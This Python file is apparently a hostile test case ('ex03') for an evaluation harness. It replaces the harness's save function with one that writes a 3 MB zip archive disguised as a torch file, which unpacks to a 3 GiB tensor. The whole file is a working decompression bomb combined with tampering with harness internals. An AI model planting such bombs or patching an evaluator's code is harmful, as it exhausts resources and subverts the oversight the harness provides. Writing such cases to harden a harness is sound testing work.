"""Hostile ex03: every result file is 3 MB on disk, a zip archive (what torch.save writes) holding a
deflated 3 GiB tensor, written past the harness's own save (`_harness.child._save`): a reader that
still took torch archives would unpack it."""

import io
import sys
import struct
import zipfile
import zlib

GIB3 = 3 * 2**30
_marker = 123457  # numel of the small tensor whose pickle is reused, patched to the bomb's numel


def _deflated_zeros(size):
    """A raw deflate stream of `size` zero bytes (a multiple of 64 MiB), built from one repeated
    fully-flushed block, and its CRC-32 (that of 3 GiB of zeros, worked out once)."""
    chunk = 2**26
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(chunk)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (size // chunk) + zlib.compressobj(9, zlib.DEFLATED, -15).flush(), 0x480BBE37


def _zip(entries):
    """A zip archive of (name, data, method, crc, size) entries, written by hand."""
    out, central = io.BytesIO(), b""
    for name, data, method, crc, size in entries:
        offset = out.tell()
        raw = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, crc, len(data), size, len(raw), 0))
        out.write(raw + data)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, crc, len(data), size,
                               len(raw), 0, 0, 0, 0, 0, offset) + raw
    start = out.tell()
    out.write(central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), start, 0))
    return out.getvalue()


def _bomb():
    small = io.BytesIO()
    _real_save({"ok": {"attention_weights": torch.zeros(_marker)}}, small)
    archive = zipfile.ZipFile(io.BytesIO(small.getvalue()))
    stream, crc = _deflated_zeros(GIB3)
    entries = []
    for info in archive.infolist():
        data = archive.read(info)
        if info.filename.endswith("data.pkl"):
            data = data.replace(struct.pack("<i", _marker), struct.pack("<i", GIB3 // 4))
        if "/data/" in info.filename:
            entries.append((info.filename, stream, zipfile.ZIP_DEFLATED, crc, GIB3))
        else:
            entries.append((info.filename, data, zipfile.ZIP_STORED, zlib.crc32(data), len(data)))
    return _zip(entries)


_real_save = torch.save
_made = []


def _forged_save(obj, path):
    if not _made:
        _made.append(_bomb())
    with open(path, "wb") as out:
        out.write(_made[0])


sys.modules["_harness.child"]._save = _forged_save
